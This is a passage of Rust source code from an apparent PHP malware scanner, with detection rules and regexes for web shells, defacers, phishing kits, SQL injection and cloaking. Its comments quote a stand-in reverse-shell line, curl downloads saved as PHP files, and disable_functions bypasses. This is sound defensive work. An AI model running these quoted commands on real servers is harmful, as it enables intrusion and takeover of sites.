            .find(|x| str_value(x).is_some_and(|v| v.len() <= MAX_COMMAND_TEXT && DOWNLOAD_SAVED_AS_PHP.is_match(v)))
    {
        // A script fetched by a command into a PHP file of the site (fresh114's one-line
        // `curl -o up.php https://raw.githubusercontent.com/…`): code from the internet, run
        // by the next request for it.
        add(Why::CodeFromInternet, Danger::High, x.at);
    }
    // A back-connect written whole in a command (fresh103's `exec('bash -c "bash -i >&
    // /dev/tcp/HOST/PORT 0>&1"')`): the same reading as a shell script's.
    if shell
        && let Some(at) = t.iter().find_map(|x| match &x.tok {
            Tok::Str(q) | Tok::Backtick(q)
                if q.value.len() <= SHORT_COMMAND
                    && (crate::programs::SHELL_TO_NETWORK.is_match(q.value)
                        || crate::programs::REMOTE_ACCESS_TOOL.is_match(q.value)) =>
            {
                Some(x.at)
            }
            _ => None,
        })
    {
        add(Why::RemoteShell, Danger::Critical, at);
    }
    // A mass defacer: it walks the folders and has a shell download a page into each one's
    // home page (fresh84's `curl https://…/tes.html >> $dir/index.php` in a `scandir` loop).
    if shell
        && f.has(F::DirList)
        && f.has(F::Loop)
        && let Some(at) = download_into_home_page(t)
    {
        add(Why::MassDefacer, Danger::High, at);
    }

    // Web-shell consoles: server reconnaissance and a file manager driven by the request.
    let (calls, shown) = recon_calls(t, &f.recon_at);
    let shown = shown || f.recon_shown;
    let recon_kinds = calls + usize::from(f.recon_literals);
    let control = [F::DirList, F::FileChange, F::Upload, F::FileRead, F::Write, F::Unlink, F::Shell, F::Shell]
        .iter()
        .filter(|k| f.has(**k))
        .count();
    if recon_kinds >= 3 && shown && control >= 3 && f.request_input && FORM.is_match(text) {
        add(Why::WebShellConsole, Danger::High, f.at(F::Recon).unwrap_or(0));
    }

    // A file the visitor names read through a wrapper that gets round the folder limits.
    if let Some(at) = f.wrapped_request_path {
        add(Why::FileReadFromInput, Danger::High, at);
    }
    if let Some(at) = f.protection_restored {
        add(Why::PhpWeakened, Danger::High, at);
    }
    // A site's own path is sometimes built this way: many sites' files, or the accounts list
    // to enumerate them, is what a grabber shows.
    let mut homes = OTHER_SITES.find_iter(text);
    let first_home = homes.next();
    // (Or the server's list of accounts or of domains read: `/etc/passwd`, cPanel's
    // `/etc/valiases/` and the name server's `/var/named`.)
    let accounts_list = || {
        memchr::memmem::find(text, b"/etc/valiases").is_some() || memchr::memmem::find(text, b"/var/named").is_some()
    };
    let many = first_home.is_some() && (homes.next().is_some() || f.recon_literal_passwd || accounts_list());
    if let Some(m) = SYSTEM_LINK.find(text).or(first_home.filter(|_| many)) {
        add(Why::ReadsOtherSites, Danger::High, m.start());
    } else if let Some(at) = cpanel_account_list(text)
        .or_else(|| harvests_listed_settings(text, t))
        .or_else(|| o.small.then(|| shows_accounts_list(t)).flatten())
    {
        add(Why::ReadsOtherSites, Danger::High, at);
    }

    // Old web shells: a form field's name used as a variable (PHP's register_globals) in a
    // shell or code call.
    if let Some((why, at)) = form_field_to_sink(text, t) {
        add(why, Danger::High, at);
    }

    // Injected JavaScript: a script written into the files found by walking folders (a mass
    // injector), or already in this file.
    if let Some(at) = f.writes_script
        && f.has(F::DirList)
    {
        add(Why::InjectedScript, Danger::High, at);
    }
    if let Some(at) = obfuscated_script(text).or_else(|| THROWAWAY_SCRIPT.find(text).map(|m| m.start())) {
        // Pasted in front of the file's code is how injections look; a plugin printing its
        // own packed script is rarer but real.
        let in_front = memchr::memmem::find(&text[..at], b"<?").is_none();
        add(Why::InjectedScript, if in_front { Danger::High } else { Danger::Medium }, at);
    }
    // A console already says it manages files for a visitor.
    let console = out.iter().any(|s| s.why == Why::WebShellConsole);
    // (A collector found by its fields here is not found again by its variables there.)
    let collector = out.iter().any(|s| s.why == Why::CredentialCollector);
    out.extend(kits::analyze_with(text, t, o, &inputs, shared).into_iter().filter(|s| {
        let again = (console && s.why == Why::FileManagerShell) || (collector && s.why == Why::CredentialCollector);
        !again
    }));
    // Doorways and beacons read the site's name or place and fetch, mail or write.
    let acts = [F::Fetch, F::CurlExec, F::Mail, F::Write].iter().any(|k| f.has(*k));
    let families = doorways::Families {
        site_pages: (f.names_site || f.location_keys != 0) && acts,
        printed: doorways::printed_remote(text),
        fetches: f.has(F::Fetch) || f.has(F::CurlExec),
    };
    out.extend(doorways::analyze(text, t, o, families));
    if let Some(at) = doorways::keyword_pages(text, t) {
        out.push(Shape { why: Why::KeywordDoorway, danger: Danger::High, at });
    }
    out.extend(mailers::analyze(text, t, o, &inputs));
    out.extend(tools::analyze(text, t, o));
    out.extend(seo::analyze(text));
    out.extend(wordpress::analyze(text, t));
    if let Some(gate) = f.key_gate {
        out.extend(gates::behind_key(t, gate));
    }
    if let Some(at) = glued::loader_in_front(text, t) {
        out.push(Shape { why: Why::LoaderInFront, danger: Danger::High, at });
    }
    if o.small
        && let Some(at) = includes_from_hidden_folder(t)
    {
        out.push(Shape { why: Why::IncludeOfData, danger: Danger::Medium, at });
    }
    out
}

/// Up to this size a collector's signs are taken to belong together.
const COLLECTOR_WHOLE_FILE: usize = 8 << 10;

/// Readings of the visitor's browser or referrer looked around for cloaking.
const MAX_UA_READS: usize = 16;
/// Tokens before and after such a reading that belong to it.
const NEAR_BEFORE: usize = 150;
const NEAR_AFTER: usize = 600;

/// Whether the tokens around the reading at `i` name search engines in a literal, hold another
/// site's address, and redirect or fetch.
fn cloak_near(t: &[Token<'_>], i: usize) -> bool {
    let (mut crawler, mut url, mut action) = (false, false, false);
    let window = &t[i.saturating_sub(NEAR_BEFORE)..t.len().min(i + NEAR_AFTER)];
    for (k, x) in window.iter().enumerate() {
        match &x.tok {
            Tok::Str(quoted) if quoted.value.len() <= 4096 => {
                let value = quoted.value;
                let is_url = is_address(value);
                crawler |= !is_url && names_crawler(value);
                url |= is_url && !CRAWLER.is_match(value);
                action |= REDIRECT_TEXT.is_match(value)
                    || (value.len() >= 9 && value[..9].eq_ignore_ascii_case(b"location:"));
            }
            Tok::Ident(n) if is_op(window.get(k + 1), b"(") => {
                action |= matches!(classify(n), Some(F::Fetch | F::CurlExec));
            }
            _ => {}
        }
        if crawler && url && action {
            return true;
        }
    }
    false
}

/// Where `putenv` gives the programs PHP starts a library to preload (`LD_PRELOAD=…`) or a
/// Shellshock function (`X=() { :; }; cmd`), or where an IMAP address holds `-oProxyCommand`
/// (the file opening one): ways round `disable_functions`, each through `mail` or `imap_open`.
fn limits_bypassed(t: &[Token<'_>], f: &Facts) -> Option<usize> {
    let putenv = f.has(F::Putenv);
    let imap = f.has(F::Imap);
    if !putenv && !imap {
        return None;
    }
    (0..t.len()).find_map(|i| {
        if putenv && tokens::is_call(t, i, &[b"putenv"]) {
            let v = t.get(i + 2).and_then(str_value)?;
            let shellshock = memchr::memmem::find(v, b"() {").is_some();
            return (v.starts_with(b"LD_PRELOAD=") || shellshock).then_some(t[i].at);
        }
        if imap && str_value(&t[i])?.windows(14).any(|w| w.eq_ignore_ascii_case(b"-oProxyCommand")) {
            return Some(t[i].at);
        }
        None
    })
}

/// Where a file is written with a line of PHP that loads another file put in front of the
/// file's own text (`$s = file_get_contents($f); file_put_contents($f, $line . $s)`): the line
/// a literal (or a variable given one) that opens PHP and includes or requires. (A code
/// generator writes a new file from a template, not a file's own text behind a loader.)
fn loader_put_in_front(t: &[Token<'_>]) -> Option<usize> {
    let loader = |v: &[u8]| {
        let v = v.trim_ascii_start();
        v.len() <= 512
            && v.get(..5).is_some_and(|h| h.eq_ignore_ascii_case(b"<?php"))
            && [&b"include"[..], b"require"].iter().any(|w| v.windows(w.len()).any(|x| x.eq_ignore_ascii_case(w)))
    };
    let given_loader = |n: &[u8]| {
        (0..t.len().saturating_sub(2)).any(|k| {
            matches!(t[k].tok, Tok::Var(v) if v == n)
                && is_op(t.get(k + 1), b"=")
                && t.get(k + 2).and_then(str_value).is_some_and(loader)
        })
    };
    // `$s = file_get_contents($f` (or `@file_get_contents(`).
    let read_from = |s: &[u8], f: &[u8]| {
        (0..t.len().saturating_sub(4)).any(|k| {
            matches!(t[k].tok, Tok::Var(v) if v == s) && is_op(t.get(k + 1), b"=") && {
                let c = if is_op(t.get(k + 2), b"@") { k + 3 } else { k + 2 };
                tokens::is_call(t, c, &[b"file_get_contents"])
                    && matches!(t.get(c + 2).map(|x| &x.tok), Some(Tok::Var(p)) if *p == f)
            }
        })
    };
    // (Each write with a variable's path looks through the file: the first few are read.)
    let mut writes = 0;
    (0..t.len()).find_map(|i| {
        if !tokens::is_call(t, i, &[b"file_put_contents"]) {
            return None;
        }
        let (Some(Tok::Var(f)), true) = (t.get(i + 2).map(|x| &x.tok), is_op(t.get(i + 3), b",")) else { return None };
        writes += 1;
        if writes > MAX_WRITES_READ {
            return None;
        }
        let head = match t.get(i + 4).map(|x| &x.tok) {
            Some(Tok::Str(l)) => loader(l.value),
            Some(Tok::Var(n)) => given_loader(n),
            _ => false,
        };
        let own_text =
            is_op(t.get(i + 5), b".") && matches!(t.get(i + 6).map(|x| &x.tok), Some(Tok::Var(s)) if read_from(s, f));
        (head && own_text).then_some(t[i].at)
    })
}

/// Most writes of a file (`loader_put_in_front`), or includes of a kept page
/// (`includes_kept_page`), each looked into: the look goes through the file, or back to an `if`.
const MAX_WRITES_READ: usize = 16;

/// Whether the file includes a page kept beside it as HTML or text (`include __DIR__ .
/// '/home.html'`), first in the block of an `if` whose test is not negated (`if (bot() ||
/// searcher()) { include … }`; a hotlink guard's `if (!preg_match('/googlebot/', $ua) && …)`
/// is the other way round): PHP runs it, and prints it whole.
fn includes_kept_page(t: &[Token<'_>]) -> bool {
    let first_in_if = |i: usize| {
        i >= 2
            && is_op(t.get(i - 1), b"{")
            && is_op(t.get(i - 2), b")")
            && (i.saturating_sub(64)..i - 2).rev().any(|k| {
                ident(&t[k]).is_some_and(|w| same_ci(w, b"if") || same_ci(w, b"elseif"))
                    && is_op(t.get(k + 1), b"(")
                    && tokens::close_of(t, k + 1) == i - 2
                    && !is_op(t.get(k + 2), b"!")
            })
    };
    // (The literal first, then the `if` around: the look back is paid for a few only.)
    let mut read = 0;
    (0..t.len()).any(|i| {
        ident(&t[i]).is_some_and(crate::php::is_include_word)
            && (i + 1..t.len().min(i + 6)).take_while(|&k| !is_op(t.get(k), b";")).any(|k| {
                t.get(k).and_then(str_value).is_some_and(|v| names_kept_file(v, &[b".html", b".htm", b".txt"]))
            })
            && {
                read += 1;
                read <= MAX_WRITES_READ
            }
            && first_in_if(i)
    })
}

/// Whether an `if` includes a kept page (`include 'readme.html'`) as its first statement and
/// its `else` branch includes a PHP file (`include("config.php")`).
fn includes_kept_page_else_php(t: &[Token<'_>]) -> bool {
    let includes = |i: usize, endings: &[&[u8]]| {
        ident(&t[i]).is_some_and(crate::php::is_include_word)
            && (i + 1..t.len().min(i + 6))
                .take_while(|&k| !is_op(t.get(k), b";"))
                .any(|k| t.get(k).and_then(str_value).is_some_and(|v| names_kept_file(v, endings)))
    };
    let mut read = 0;
    (0..t.len()).any(|i| {
        let opens_block = is_op(t.get(i), b"{") && is_op(t.get(i.wrapping_sub(1)), b")");
        if !(opens_block && includes(i + 1, &[b".html", b".htm", b".txt"])) {
            return false;
        }
        read += 1;
        if read > MAX_WRITES_READ {
            return false;
        }
        // The block's end, then `else {` and an include of PHP as its first statement.
        let Some(end) = block_end(t, i) else { return false };
        ident_is(t.get(end + 1), b"else")
            && is_op(t.get(end + 2), b"{")
            && end + 3 < t.len()
            && includes(end + 3, &[b".php"])
    })
}

/// Where a file names a visitor-filtering service phishing kits rent (`killbot.org`,
/// `antibot.pw`) or the filter library they ship (`new botMother()`, fresh150's Venmo kit),
/// or asks ip-api whether the visitor comes from a hosting or proxy network.
fn kit_filter_service(text: &[u8]) -> Option<usize> {
    let find = |w: &[u8]| memchr::memmem::find(text, w);
    find(b"killbot.org").or_else(|| find(b"antibot.pw")).or_else(|| find(b"new botMother")).or_else(|| {
        let at = find(b"ip-api.com")?;
        let near = &text[at..text.len().min(at + 300)];
        let has = |w: &[u8]| memchr::memmem::find(near, w).is_some();
        (has(b"hosting") && has(b"proxy")).then_some(at)
    })
}

/// A redirect to a site whose name is drawn at random (`'Location: http://www.' .
/// base64_encode(rand(1, 999999999)) . '.com'`).
static RANDOM_SITE_REDIRECT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?i-u)location:\s*https?://(?:www\.)?['"]\s*\.\s*(?:(?:base64_encode|md5|sha1|strrev|dechex)\s*\(\s*)?"#,
        r"(?:mt_rand|rand|random_int|uniqid)\s*\(",
    ))
    .expect("pattern compiles")
});

/// The largest file read as a kit's settings (fresh132's are 1 to 3 KB).
const KIT_SETTINGS_FILE: usize = 16 << 10;
/// A visitor-filtering service kits rent, or their own filter's name (`ANTIBOTPW_API`,
/// `KILLBOT_API`, `"AntiBots"`).
static KIT_FILTER_WORD: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i-u)\banti-?bots?(?:pw)?\b|antibot\.pw|\bkillbot").expect("pattern compiles"));
/// A chat bot set as the receiver (`TELEGRAM_CHAT_ID`, `"chat_id" =>`, `$chatId`).
static CHAT_RECEIVER: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i-u)\bchat_?id\b|\btelegram_?chat").expect("pattern compiles"));

/// Where a small file names both a visitor-filtering service (or the kit's own filter) and
/// a Telegram chat to receive what it collects: a phishing kit's settings.
/// (Or the kit's filter and its victim: fresh164's Citibank kit's `settings.php` says
/// "Victim Can't Go Back To Session" beside "HTTP Referer For Antibots".)
fn kit_settings(text: &[u8]) -> Option<usize> {
    if text.len() > KIT_SETTINGS_FILE {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    let telegram = memchr::memmem::find(&lower, b"telegram").is_some();
    let victim = memchr::memmem::find(&lower, b"victim").is_some();
    if !telegram && !victim {
        return None;
    }
    let at = KIT_FILTER_WORD.find(text)?.start();
    ((telegram && CHAT_RECEIVER.is_match(text)) || (victim && VICTIM.is_match(text))).then_some(at)
}
/// The kit's word for the one it robs.
static VICTIM: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?i-u)\bvictims?\b").expect("pattern compiles"));

/// Where a file names the API of a visitor-filtering service phishing kits rent.
fn kit_filter_api(text: &[u8]) -> Option<usize> {
    let find = |w: &[u8]| memchr::memmem::find(text, w);
    find(b"killbot.org/api").or_else(|| find(b"antibot.pw/api"))
}

/// Where cPanel lists the server's accounts, their owners and domains: a site has no business
/// reading them, a reseller finder or a mass defacer starts there (fresh109's
/// `/etc/trueuserowners`).
const CPANEL_ACCOUNT_LISTS: [&[u8]; 5] = [
    b"/etc/trueuserowners",
    b"/etc/trueuserdomains",
    b"/etc/userdomains",
    b"/etc/domainusers",
    b"/etc/userdatadomains",
];

/// A download by a command saved under a PHP file's name (`curl -o up.php https://…`,
/// `wget -O x.php http://…`, `curl https://… > a.php`).
static DOWNLOAD_SAVED_AS_PHP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i-u)\b(?:wget|curl)\b[^\n;|]{0,200}?(?:\s-o\s*|\s-O\s*|\s--output(?:-document)?[=\s]\s*|>\s*)",
        r#"["']?[^\s;|"']*\.(?:php\d?|phtml)\b[^\n;|]{0,200}?(?:https?|ftp)://|"#,
        r#"\b(?:wget|curl)\b[^\n;|]{0,200}?(?:https?|ftp)://[^\n;|]{0,200}?(?:\s-o\s*|\s-O\s*|>\s*)["']?[^\s;|"']*\.(?:php\d?|phtml)\b"#,
    ))
    .expect("pattern compiles")
});

/// An SQL injection as an attack carries it: written into a form field or an address
/// (`union+select`, `%27 or`, `name[0;update users set …`, `concat(0x…`). Applications write
/// their queries plain.
static SQL_INJECTION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i-u)union(?:\+|%20|/\*\*/)+(?:all(?:\+|%20)+)?select\b|update\s+\w*users\s+set\b|",
        r"%27(?:\+|%20)*(?:or|and|union)\b|concat\(0x[0-9a-f]",
    ))
    .expect("pattern compiles")
});

/// Where a script sends an SQL injection to a site its visitor names (fresh109's Drupalgeddon
/// exploiter posts `name[0;update users set …]` to each `/user/login/` it is given).
fn sends_sql_injection(text: &[u8], t: &[Token<'_>]) -> Option<usize> {
    // (The update only inside a field's name, after `[…;`: an application's own queries update
    // their users too. Looked for here, not in the pattern, whose search would start at every
    // `[` of the code.)
    let in_field = |at: usize| {
        let before = text[..at].trim_ascii_end();
        before.last() == Some(&b';') && before[before.len().saturating_sub(10)..].contains(&b'[')
    };
    let at = SQL_INJECTION
        .find_iter(text)
        .find(|m| !m.as_bytes().get(..6).is_some_and(|w| w.eq_ignore_ascii_case(b"update")) || in_field(m.start()))?
        .start();
    let sends =
        (0..t.len()).any(|i| tokens::is_call(t, i, &[b"file_get_contents", b"curl_exec", b"fsockopen", b"fopen"]));
    let request = t.iter().any(|x| matches!(x.tok, Tok::Var(v) if is_request(v)));
    (sends && request).then_some(at)
}

/// Where a script passes a target the visitor names on to a flooding service's API, in the
/// fields every booter's API takes (`host=`, `port=`, `time=`, `method=`): fresh122's
/// `api.php` relays the order and answers "Attack Launched".
fn relays_flood_order(text: &[u8], t: &[Token<'_>]) -> Option<usize> {
    memchr::memmem::find(text, b"time=")?;
    let order = t.iter().find(|x| {
        str_value(x).is_some_and(|v| {
            let has = |w: &[u8]| memchr::memmem::find(v, w).is_some();
            v.len() <= 1024 && has(b"host=") && has(b"&port=") && has(b"&time=") && has(b"&method=")
        })
    })?;
    let sends = (0..t.len()).any(|i| tokens::is_call(t, i, &[b"file_get_contents", b"curl_init", b"curl_exec"]));
    let request = memchr::memmem::find(text, b"php://input").is_some()
        || t.iter().any(|x| matches!(x.tok, Tok::Var(v) if is_request(v)));
    (sends && request).then_some(order.at)
}

/// How applications name their database password in their settings files (WordPress, WHMCS,
/// phpBB, many others).
const SETTINGS_PASSWORDS: [&[u8]; 4] = [b"DB_PASSWORD", b"db_password", b"dbpass", b"dbpasswd"];

/// Where a script lists the links of a page it fetched (a folder's index: the settings files a
/// grabber linked from other accounts) and picks a database password out of each file by a
/// pattern (fresh109's `Pwd-Config.php` prints them; its `wp-mass.php` logs into each database
/// and resets every administrator).
/// Or the settings files' addresses are the lines of a list the visitor names (fresh139's
/// `star.php`, a WordPress mass defacer: `foreach (file($_POST['url']) …)`, each site's
/// password picked out and its widgets rewritten). An application's installer reads its own
/// one settings file, never a list.
fn harvests_listed_settings(text: &[u8], t: &[Token<'_>]) -> Option<usize> {
    let has = |w: &[u8]| memchr::memmem::find(text, w).is_some();
    if !SETTINGS_PASSWORDS.iter().any(|w| has(w)) || !(has(b"href=") || has(b"foreach")) {
        return None;
    }
    let captures = |v: &[u8]| memchr::memmem::find(v, b"(.*").is_some();
    let visitors_list = || {
        has(b"foreach")
            && t.iter().any(|x| matches!(x.tok, Tok::Var(v) if is_request(v)))
            && (0..t.len()).any(|i| tokens::is_call(t, i, &[b"file"]))
    };
    let links = t.iter().filter_map(str_value).any(|v| captures(v) && memchr::memmem::find(v, b"href=").is_some())
        || visitors_list();
    let password = t.iter().find(|x| {
        str_value(x)
            .is_some_and(|v| captures(v) && SETTINGS_PASSWORDS.iter().any(|w| memchr::memmem::find(v, w).is_some()))
    })?;
    let reads = (0..t.len()).any(|i| tokens::is_call(t, i, &[b"file_get_contents", b"curl_exec"]));
    (links && reads).then_some(password.at)
}

/// Where a small script prints the server's list of accounts (`echo
/// file_get_contents('/etc/passwd')`, `readfile('/etc/passwd')`): the first step to the other
/// sites on the server (fresh120's `HEADER`). An application that reads it (a monitor's user
/// list) is more than these few lines.
fn shows_accounts_list(t: &[Token<'_>]) -> Option<usize> {
    const READS: [&[u8]; 5] = [b"file_get_contents", b"readfile", b"highlight_file", b"show_source", b"file"];
    // The call prints the file itself, or its result is printed.
    let named = |k: Option<usize>, words: &[&[u8]]| {
        k.and_then(|k| t.get(k)).and_then(ident).is_some_and(|n| words.iter().any(|w| same_ci(n, w)))
    };
    let printed = |i: usize| {
        !named(Some(i), &[b"file_get_contents", b"file"])
            || named(i.checked_sub(1), &[b"echo", b"print", b"print_r"])
            || named(i.checked_sub(2), &[b"print_r", b"var_dump"])
    };
    (0..t.len()).find_map(|i| {
        (tokens::is_call(t, i, &READS) && t.get(i + 2).and_then(str_value) == Some(b"/etc/passwd") && printed(i))
            .then_some(t[i].at)
    })
}

/// Where a small script includes PHP from a hidden folder (`include dirname(__FILE__) .
/// '/.private/config.php'`): fresh123's doorway kit hides its code so and leaves the site's
/// `index.php` one line that loads it. (Developers' tools keep theirs in `.phpunit/`,
/// `.github/`.)
fn includes_from_hidden_folder(t: &[Token<'_>]) -> Option<usize> {
    let hidden_folder = |v: &[u8]| {
        let lower = crate::php::ascii_lowercase(v);
        lower.ends_with(b".php")
            && memchr::memmem::find_iter(&lower, b"/.").any(|p| {
                let name = &lower[p + 2..];
                let len = name.iter().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-')).count();
                len > 0
                    && name.get(len) == Some(&b'/')
                    && !matches!(&name[..len], b"phpunit" | b"github" | b"git" | b"vscode" | b"idea")
            })
    };
    (0..t.len()).find_map(|i| {
        let word = ident(&t[i]).is_some_and(crate::php::is_include_word);
        let path = word
            && t[i + 1..t.len().min(i + 10)]
                .iter()
                .take_while(|x| !is_op(Some(x), b";"))
                .any(|x| str_value(x).is_some_and(|v| v.len() <= 256 && hidden_folder(v)));
        path.then_some(t[i].at)
    })
}

/// Where a literal starts with one of `CPANEL_ACCOUNT_LISTS`.
fn cpanel_account_list(text: &[u8]) -> Option<usize> {
    memchr::memmem::find_iter(text, b"/etc/").find(|&k| {
        let quoted = k > 0 && matches!(text[k - 1], b'"' | b'\'');
        quoted && CPANEL_ACCOUNT_LISTS.iter().any(|l| text[k..].starts_with(l))
    })
}

/// Whether an `if` whose test names a crawler (`is_bot(…)`, `$is_spider`) includes one PHP file
/// as its first statement, and a branch after it (`elseif`, `else`) includes another.
fn includes_other_php_for_crawlers(t: &[Token<'_>]) -> bool {
    // The kept PHP file included by the statement at `i`, if it is one.
    let included = |i: usize| -> Option<Vec<u8>> {
        if !t.get(i).and_then(ident).is_some_and(crate::php::is_include_word) {
            return None;
        }
        (i + 1..t.len().min(i + 6))
            .take_while(|&k| !is_op(t.get(k), b";"))
            .filter_map(|k| t.get(k).and_then(str_value))
            .find(|v| names_kept_file(v, &[b".php"]))
            .map(|v| v.to_ascii_lowercase())
    };
    let names_crawler = |x: &Token<'_>| {
        let w = match &x.tok {
            Tok::Ident(w) | Tok::Var(w) => *w,
            _ => return false,
        };
        let w = w.to_ascii_lowercase();
        [&b"bot"[..], b"crawler", b"spider"].iter().any(|c| memchr::memmem::find(&w, c).is_some())
    };
    let mut read = 0;
    (0..t.len().saturating_sub(2)).any(|i| {
        if !(ident_is(t.get(i), b"if") && is_op(t.get(i + 1), b"(")) {
            return false;
        }
        let Some(close) = block_end(t, i + 1) else { return false };
        if !t[i + 2..close].iter().any(names_crawler) || !is_op(t.get(close + 1), b"{") {
            return false;
        }
        let Some(first) = included(close + 2) else { return false };
        read += 1;
        if read > MAX_WRITES_READ {
            return false;
        }
        // The branches after it, each one's first statement.
        let mut end = block_end(t, close + 1);
        for _ in 0..4 {
            let Some(e) = end else { return false };
            let open = if ident_is(t.get(e + 1), b"elseif")
                || (ident_is(t.get(e + 1), b"else") && ident_is(t.get(e + 2), b"if"))
            {
                let paren = if ident_is(t.get(e + 1), b"elseif") { e + 2 } else { e + 3 };
                let Some(c) = block_end(t, paren) else { return false };
                c + 1
            } else if ident_is(t.get(e + 1), b"else") {
                e + 2
            } else {
                return false;
            };
            if !is_op(t.get(open), b"{") {
                return false;
            }
            if included(open + 1).is_some_and(|other| other != first) {
                return true;
            }
            end = block_end(t, open);
        }
        false
    })
}

/// The `}` closing the block opened at `open`, within `SHORT_BLOCK` tokens.
fn block_end(t: &[Token<'_>], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (i, x) in t.iter().enumerate().skip(open).take(SHORT_BLOCK) {
        match x.tok {
            Tok::Op(b"(" | b"[" | b"{") => depth += 1,
            Tok::Op(b")" | b"]" | b"}") => {
                depth = depth.checked_sub(1)?;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
    }
    None
}
/// The most tokens of a crawler's block read for its end.
const SHORT_BLOCK: usize = 64;

fn ident_is(x: Option<&Token<'_>>, w: &[u8]) -> bool {
    x.and_then(ident).is_some_and(|n| same_ci(n, w))
}

/// Whether a literal names a file on the server (no address) ending in one of `endings`
/// (lowercase, any case in the literal).
fn names_kept_file(v: &[u8], endings: &[&[u8]]) -> bool {
    let v = v.to_ascii_lowercase();
    memchr::memmem::find(&v, b"://").is_none() && endings.iter().any(|e| v.ends_with(e))
}

/// Whether a fetched text is written to a file as it came (`$c = file_get_contents($u);
/// … file_put_contents($p, $c)`, or the fetch's call itself as the data).
fn saves_fetched(t: &[Token<'_>]) -> bool {
    let is_fetch = |k: usize| tokens::is_call(t, k, &[b"file_get_contents", b"curl_exec"]);
    let mut fetched: Vec<&[u8]> = Vec::new();
    for i in 0..t.len() {
        if let Tok::Var(v) = t[i].tok
            && is_op(t.get(i + 1), b"=")
            && (is_fetch(i + 2) || (is_op(t.get(i + 2), b"@") && is_fetch(i + 3)))
            && fetched.len() < MAX_TEMPORARY
        {
            fetched.push(v);
        }
        if tokens::is_call(t, i, &[b"file_put_contents", b"fwrite", b"fputs"]) {
            let close = tokens::close_of(t, i + 1);
            let args = &t[i + 2..close.max(i + 2)];
            let data_from = args.iter().position(|x| is_op(Some(x), b",")).map_or(args.len(), |c| c + 1);
            let data = &args[data_from..];
            if data.iter().enumerate().any(|(k, x)| {
                matches!(x.tok, Tok::Var(v) if fetched.contains(&v))
                    || tokens::is_call(data, k, &[b"file_get_contents", b"curl_exec"])
            }) {
                return true;
            }
        }
    }
    false
}

/// Whether a literal names a PHP file (`'.php'`, `'x.php'`).
fn names_php_file(t: &[Token<'_>]) -> bool {
    t.iter().filter_map(str_value).any(|v| v.len() >= 4 && v[v.len() - 4..].eq_ignore_ascii_case(b".php"))
}

/// Whether the file includes a file it names by a variable (`require $path;`, `include($f)`).
fn includes_variable(t: &[Token<'_>]) -> bool {
    (0..t.len()).any(|i| {
        ident(&t[i]).is_some_and(crate::php::is_include_word) && {
            let k = if is_op(t.get(i + 1), b"(") { i + 2 } else { i + 1 };
            matches!(t.get(k).map(|x| &x.tok), Some(Tok::Var(_)))
        }
    })
}

/// Whether the file runs a text as a page of PHP: `eval("?>" . $text)` (what follows `?>`
/// is the page's HTML and its own `<?php` blocks: a whole script fetched or decoded).
fn runs_text_as_page(t: &[Token<'_>]) -> bool {
    (0..t.len()).any(|i| {
        // (`eval("?>" . $code)`, or `eval("?>$code")`.)
        tokens::is_call(t, i, &[b"eval"])
            && match t.get(i + 2).map(|x| &x.tok) {
                Some(Tok::Str(l)) if l.vars.is_empty() => l.value.trim_ascii() == b"?>" && is_op(t.get(i + 3), b"."),
                Some(Tok::Str(l)) => l.value.trim_ascii_start().starts_with(b"?>"),
                _ => false,
            }
    })
}

/// Whether the file prints a file kept on the server whose name ends in one of `endings`, read whole
/// (`echo file_get_contents("readme.txt")`, `readfile(__DIR__ . '/home.txt')`, or `$page =
/// file_get_contents('/home/u1/…/pp.php'); echo $page;`): spam kept as text where no page
/// is looked for, or a PHP file's text, which no page of a site prints. (A single-page
/// application's snapshot for crawlers is a page, `.html`.)
fn prints_kept_file(t: &[Token<'_>], endings: &[&[u8]]) -> bool {
    (1..t.len()).any(|i| {
        if !tokens::is_call(t, i, &[b"readfile", b"file_get_contents"]) {
            return false;
        }
        let read = tokens::is_call(t, i, &[b"readfile"]);
        let close = tokens::close_of(t, i + 1);
        let kept = close > i + 2
            && close - i <= 12
            && t.get(close - 1).and_then(str_value).is_some_and(|v| names_kept_file(v, endings));
        if !kept {
            return false;
        }
        // `echo file_get_contents(`, `echo @file_get_contents(`, `echo(file_get_contents(`.
        let mut k = i - 1;
        while k > 0 && (is_op(t.get(k), b"@") || is_op(t.get(k), b"(")) {
            k -= 1;
        }
        let shown = |k: usize| ident(&t[k]).is_some_and(|e| same_ci(e, b"echo") || same_ci(e, b"print"));
        // `$page = file_get_contents(…);` and `echo $page;` in the next statement.
        let kept_in = match (k.checked_sub(1).map(|v| &t[v].tok), is_op(t.get(k), b"=")) {
            (Some(Tok::Var(v)), true) => Some(*v),
            _ => None,
        };
        let echoed_after = kept_in.is_some_and(|v| {
            is_op(t.get(close + 1), b";")
                && t.get(close + 2).is_some_and(|_| shown(close + 2))
                && matches!(t.get(close + 3).map(|x| &x.tok), Some(Tok::Var(n)) if *n == v)
        });
        read || shown(k) || echoed_after
    })
}

/// Bytes of page written outside PHP from which a crawler's own page counts.
const CRAWLER_PAGE: usize = 2048;
/// Most pieces of such a page read (between them, short PHP: `<?php echo $host; ?>`).
const PAGE_PIECES: usize = 16;
/// Most tokens of PHP between two pieces of one page.
const PAGE_GAP: usize = 16;

/// A page printed only to search engines' crawlers: an `if` testing the visitor's browser (the
/// reading at one of `reads`, or the variable it was kept in) against a crawler's name, not
/// negated, whose body is a whole page written outside PHP (`if (strstr($ua, "googlebot")) {
/// ?><!DOCTYPE html>…<title>…`): a doorway the site's visitors never see. Where the `if` is.
fn page_for_crawlers(text: &[u8], t: &[Token<'_>], reads: &[usize]) -> Option<usize> {
    let keyword = |k: usize| {
        ident(&t[k]).is_some_and(|n| same_ci(n, b"if") || same_ci(n, b"elseif")) && is_op(t.get(k + 1), b"(")
    };
    reads.iter().find_map(|&i| {
        let mut ifs = Vec::new();
        if let Some(k) = (i.saturating_sub(16)..i).rev().find(|&k| keyword(k) && tokens::close_of(t, k + 1) > i) {
            ifs.push(k);
        }
